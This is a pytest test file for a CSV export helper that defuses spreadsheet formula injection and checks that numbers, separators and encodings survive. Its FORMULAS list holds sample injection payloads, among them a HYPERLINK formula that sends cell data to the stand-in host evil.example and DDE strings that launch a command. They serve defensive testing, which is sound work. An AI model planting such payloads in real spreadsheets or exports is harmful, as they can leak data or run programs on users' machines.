"""Exports that spreadsheets open and never run."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fiel.kernel.csv_cells import PLAIN, PORTUGUESE, CsvForm, csv_cell, csv_text, no_formula

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "%0A=1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(formula: str) -> None:
    """An apostrophe before it, and all of it still readable."""
    assert no_formula(formula) == f"'{formula}"


@pytest.mark.parametrize("number", ["-1.234,56", "-0.5", "+3,2", "12,5%", "-7", "1.000"])
def test_a_number_stays_a_number(number: str) -> None:
    """Losses are below zero."""
    assert no_formula(number) == number


def test_values_are_written_with_all_their_digits() -> None:
    """Decimals, whole numbers, days, nothing, and text with what separates: no mark means two things."""
    row = (Decimal("-0.10"), 3, date(2026, 1, 2), None, 'a;"b"\nc', "x,y")
    told = csv_text(["a"], [row])
    assert told == 'a\n-0.10,3,2026-01-02,,"a;""b""\nc","x,y"\n'
    # Excel knows the encoding by the mark at the beginning.
    told = csv_text(["ação"], [row], PORTUGUESE)
    assert told == '\ufeffação\n-0,10;3;2026-01-02;;"a;""b""\nc";x,y\n'


@pytest.mark.parametrize("value", [0.1, True, b"x", ["x"]])
def test_what_is_neither_text_nor_a_number_is_refused(value: object) -> None:
    """A float would write digits that nobody meant."""
    with pytest.raises(TypeError):
        csv_cell(value)  # type: ignore[arg-type]


@given(st.lists(st.text(), min_size=1, max_size=4), st.sampled_from([PLAIN, PORTUGUESE]))
def test_no_text_becomes_a_formula_or_another_column(cells: list[str], form: CsvForm) -> None:
    """Whatever stands in a note: as many cells as before, and none that begins like a formula."""
    told = csv_text(["h"] * len(cells), [cells], form)
    read = list(csv.reader(io.StringIO(told, newline=""), delimiter=form.separator))
    if cells == [""]:
        # A line without a mark is no row to a reader.
        read[1] = [""]
    assert len(read) == 2
    assert len(read[1]) == len(cells)
    for cell in read[1]:
        assert not cell.lstrip().startswith(("=", "@")) or cell.startswith("'")
